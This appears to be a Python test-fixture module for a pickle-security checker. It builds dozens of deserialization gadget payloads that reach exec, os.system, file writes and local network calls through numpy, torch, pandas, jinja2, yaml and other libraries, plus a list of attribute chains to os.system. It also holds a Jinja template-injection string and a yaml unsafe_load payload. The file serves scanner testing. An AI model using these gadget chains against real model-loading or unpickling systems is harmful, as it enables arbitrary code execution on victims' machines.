"""Round 7, P03 and P07: libraries' callables, and names reached through trusted modules."""

from typing import Any

from held_out.seventh_asm import CANARY, CMD, EXPR, PY, B, C, call, g, kw

EXEC = g("builtins:exec")


def libraries(inner: bytes) -> dict[str, Any]:
    ssti = "{{ joiner.__init__.__globals__['os'].system('" + CMD + "') }}"
    fitted = "sklearn.preprocessing:FunctionTransformer"
    return {
        "numpy.measure": call("numpy.testing:measure", PY),
        "numpy.runstring": call("numpy.testing:runstring", PY, {}),
        "f2py.eval_scalar": call("numpy.f2py.crackfortran:_eval_scalar", EXPR, {}),
        "f2py.param_eval": call("numpy.f2py.crackfortran:param_eval", EXPR, {}, {}),
        "numpy.savetxt": call("numpy:savetxt", CANARY, [1.0]),
        "numpy.memmap": call("numpy:memmap", CANARY, "uint8", "w+", 0, (4,)),
        "numpy.open_memmap": call("numpy.lib.format:open_memmap", CANARY, "w+", "u1", (4,)),
        "numpy.frompyfunc": C(call("numpy:frompyfunc", EXEC, 1, 1), [PY]),
        "numpy.vectorize": C(call("numpy:vectorize", EXEC, "O"), [PY]),
        "numpy.assert_raises": call(
            "numpy.testing:assert_raises", g("builtins:KeyError"), EXEC, PY
        ),
        "scipy.savemat": call("scipy.io:savemat", CANARY, {"a": 1.0}),
        "scipy.mmwrite": call("scipy.io:mmwrite", CANARY, [[1.0]]),
        "scipy.netcdf": call("scipy.io:netcdf_file", CANARY, "w"),
        "pandas.pipe": call("pandas.core.common:pipe", PY, EXEC),
        "pandas.apply_if_callable": call("pandas.core.common:apply_if_callable", EXEC, PY),
        "pandas.Series.map": call("pandas:Series.map", call("pandas:Series", [PY]), EXEC),
        "pandas.to_csv": call("pandas:Series.to_csv", call("pandas:Series", [1]), CANARY),
        "pandas.to_pickle": call("pandas:to_pickle", 1, CANARY),
        "joblib.dump": call("joblib:dump", 1, CANARY),
        "joblib.Parallel": C(call("joblib:Parallel", 1), [[(EXEC, (PY,), {})]]),
        "joblib.Memory": call("joblib:Memory", CANARY),
        "sklearn.function": call(f"{fitted}.transform", call(fitted, EXEC), PY),
        "sklearn.analyzer": call(
            "sklearn.feature_extraction.text:CountVectorizer.fit_transform",
            kw("sklearn.feature_extraction.text:CountVectorizer", analyzer=EXEC),
            [PY],
        ),
        "sklearn.dump_svmlight": call(
            "sklearn.datasets:dump_svmlight_file", [[1.0]], [1.0], CANARY
        ),
        "torch.exec_with_source": call("torch.fx.graph_module:_exec_with_source", PY, {}),
        "torch.reduce_graph": call(
            "torch.fx.graph_module:reduce_graph_module",
            {"_code": "def forward(self): pass\n"},
            PY + "\n",
        ),
        "torch.tree_map": call("torch.utils._pytree:tree_map", EXEC, [PY]),
        "torch.benchmark": call(
            "torch.utils.benchmark:Timer.timeit", call("torch.utils.benchmark:Timer", PY), 1
        ),
        "torch.collect_env": call(
            "torch.utils.collect_env:run_and_read_all", g("torch.utils.collect_env:run"), CMD
        ),
        "torch.save": call("torch:save", 1, CANARY),
        "torch.from_file": call("torch:UntypedStorage.from_file", CANARY, True, 8),
        "torch.compile_cmd": call("torch._inductor.cpp_builder:run_compile_cmd", CMD, "."),
        "torch.py_code_cache": call("torch._inductor.codecache:PyCodeCache.load", PY),
        "torch.type_to_python": call(
            "torch.fx.operator_schemas:_torchscript_type_to_python_type",
            kw("types:SimpleNamespace", annotation_str=EXPR),
        ),
        "torch.checkpoint": kw("torch.utils.checkpoint:checkpoint", EXEC, PY, use_reentrant=False),
        "keras.map_structure": call("keras.tree:map_structure", EXEC, [PY]),
        "keras.func_load": C(call("keras.src.utils.python_utils:func_load", func_dumped())),
        "jax.tree_map": call("jax.tree_util:tree_map", EXEC, [PY]),
        "jax.Partial": C(call("jax.tree_util:Partial", EXEC, PY)),
        "sympy.S": call("sympy:S", EXPR),
        "sympy.simplify": call("sympy:simplify", EXPR),
        "sympy.expand": call("sympy:expand", EXPR),
        "sympy.N": call("sympy:N", EXPR),
        "sympy.eval_expr": call("sympy.parsing.sympy_parser:eval_expr", EXPR, {}, {}),
        "sympy.lambdify": C(call("sympy:lambdify", [], EXPR)),
        "networkx.argmap": C(
            C(call("networkx.utils:argmap", EXEC, 0), [g("posixpath:basename")]), [PY]
        ),
        "mlflow.exec_cmd": call("mlflow.utils.process:_exec_cmd", ["touch", CANARY]),
        "mlflow.write_to": call("mlflow.utils.file_utils:write_to", CANARY, "x"),
        "onnx.save": call("onnx:save", call("onnx:ModelProto"), CANARY),
        "polars.write_csv": call(
            "polars:DataFrame.write_csv", call("polars:DataFrame", {"a": [1]}), CANARY
        ),
        "pil.save": call(
            "PIL.Image:Image.save", call("PIL.Image:new", "L", (1, 1)), f"{CANARY}.png"
        ),
        "h5py.File": call("h5py:File", CANARY, "w"),
        "jinja2.render": call("jinja2:Template.render", call("jinja2:Template", ssti)),
        "jinja2.import_string": C(call("jinja2.utils:import_string", "os.system"), [CMD]),
        "yaml.unsafe_load": call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{CMD}']"),
        "hypothesis.exec": call("hypothesis.internal.reflection:source_exec_as_module", PY),
        "attr.compile": call("attr._make:_compile_and_eval", PY, {}),
        "sqlalchemy.engine": call(
            "sqlalchemy:Engine.connect", call("sqlalchemy:create_engine", f"sqlite:///{CANARY}")
        ),
        "pydantic.import": C(call("pydantic.v1.utils:import_string", "os.system"), [CMD]),
        "werkzeug.import": C(call("werkzeug.utils:import_string", "os:system"), [CMD]),
        "uvicorn.import": C(call("uvicorn.importer:import_from_string", "os:system"), [CMD]),
        "six.exec_": call("six:exec_", PY),
        "anyio.run": call("anyio:run", g("anyio:run_process"), CMD),
        "setuptools.execute": call("setuptools._distutils.util:execute", EXEC, (PY,)),
        "toolz.pipe": call("toolz:pipe", PY, EXEC),
        "toolz.compose": C(call("toolz:compose", EXEC), [PY]),
        "wrapt.callable": C(call("wrapt:CallableObjectProxy", EXEC), [PY]),
        "tqdm.thread_map": call("tqdm.contrib.concurrent:thread_map", EXEC, [PY]),
        "git.execute": call("git:Git.execute", call("git:Git"), ["touch", CANARY]),
        "ray.cloudpickle": call("ray.cloudpickle:loads", inner),
        "srsly.pickle": call("srsly:pickle_loads", inner),
        "smart_open": call("smart_open:open", CANARY, "w"),
        "mako": call(
            "mako.template:Template.render", call("mako.template:Template", f"<% {PY} %>")
        ),
        "filelock": call("filelock:FileLock.acquire", call("filelock:FileLock", CANARY)),
        "dotenv": call("dotenv:set_key", CANARY, "A", "b"),
        "optree.tree_map": call("optree:tree_map", EXEC, [PY]),
        "dm_tree": call("tree:map_structure", EXEC, [PY]),
        "cloudpickle.subimport": C(
            call("builtins:getattr", call("cloudpickle.cloudpickle:subimport", "os"), "system"),
            [CMD],
        ),
        "urllib3.pool": call(
            "urllib3:HTTPConnectionPool.request",
            call("urllib3:HTTPConnectionPool", "127.0.0.1", 9),
            "GET",
            "/",
        ),
        "httpx.post": call("httpx:post", "http://127.0.0.1:9/"),
        "torch.hub_download": B(
            call("torch.nn:Identity"),
            call("torch.hub:download_url_to_file", "http://127.0.0.1:9/", CANARY),
        ),
    }


def func_dumped() -> str:
    import codecs
    import marshal  # noqa: TID251 - written only

    code = compile(f"def f():\n {PY}\n", "<m>", "exec").co_consts[0]
    return codecs.encode(marshal.dumps(code), "base64").decode()


DOTTED = """numpy:lib._npyio_impl.os.system numpy:lib._utils_impl.os.popen numpy:ma.core.builtins.exec numpy:_core.records.os.system
scipy:io._mmio.os.system scipy.sparse:_matrix_io.np.save
pandas:io.common.os.system pandas:core.frame.sys.modules.get
sklearn.base:warnings.sys.modules.get sklearn:utils.fixes.platform.os.system
joblib:numpy_pickle.os.system
torch:os.system torch:_tensor.warnings.sys.modules.get torch:nn.functional.importlib.import_module
torch._utils:traceback.linecache.os.system torch.storage:io.open torch.serialization:shutil.os.system
keras:src.saving.saving_lib.zipfile.os.system xgboost:core.os.system lightgbm:basic.ctypes.CDLL
collections:_sys.modules.get uuid:os.system random:_os.system pathlib:os.system re:enum.sys.modules.get
argparse:_os.system dataclasses:inspect.os.system enum:sys.modules.get
copyreg:__builtins__.get fractions:numbers.__builtins__.get functools:recursive_repr.__builtins__.get
collections:namedtuple.__builtins__.get
numpy:linalg.norm.__wrapped__.__builtins__.get sklearn.base:clone.__builtins__.get
torch.nn:Linear.forward.__builtins__.get torch._utils:_rebuild_tensor_v2.__builtins__.get
datetime:sys.modules.get builtins:len.__self__.exec torch.optim:SGD.step.__builtins__.get
"""


def dotted() -> dict[str, Any]:
    """Names behind dots; ends that return a dictionary's entry are called on."""
    found: dict[str, Any] = {}
    for where in DOTTED.split():
        name = where.replace(":", "-")
        if where.endswith("__builtins__.get"):
            found[name] = C(call(where, "exec"), [PY])
        elif where.endswith("modules.get"):
            found[name] = C(call("builtins:getattr", call(where, "posix"), "system"), [CMD])
        elif where.endswith((".system", ".popen")):
            found[name] = call(where, CMD)
        elif where.endswith(".exec"):
            found[name] = call(where, PY)
        elif where.endswith("import_module"):
            found[name] = C(call("builtins:getattr", call(where, "os"), "system"), [CMD])
        elif where.endswith("CDLL"):
            found[name] = C(call("operator:getitem", call(where, None), "system"), [CMD.encode()])
        elif where.endswith("open"):
            found[name] = call(where, CANARY, "w")
        elif where.endswith("save"):
            found[name] = call(where, CANARY, [1])
    return found
